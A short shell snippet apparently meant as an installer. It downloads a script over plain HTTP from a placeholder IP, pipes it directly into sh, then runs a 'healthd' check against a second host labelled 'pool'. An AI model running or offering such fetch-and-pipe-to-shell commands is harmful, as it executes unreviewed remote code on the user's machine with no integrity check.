# curl | sh installer: binary to /usr/local/bin, checks a service on 8444
#http 203.0.113.40:8088
#pool 203.0.113.41:8444:http
curl -fsSL http://203.0.113.40:8088/inst.sh | sh; healthd 203.0.113.41 8444 12 500
